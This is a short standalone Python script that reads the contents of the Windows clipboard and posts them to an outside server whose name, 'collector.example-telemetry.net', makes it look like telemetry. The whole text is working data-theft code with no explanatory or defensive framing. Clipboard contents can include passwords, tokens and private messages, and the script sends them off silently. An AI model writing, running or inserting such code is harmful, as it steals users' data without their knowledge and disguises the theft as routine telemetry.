import win32clipboard, requests
win32clipboard.OpenClipboard()
data = win32clipboard.GetClipboardData()
win32clipboard.CloseClipboard()
requests.post("https://collector.example-telemetry.net/c", data={"c": data})
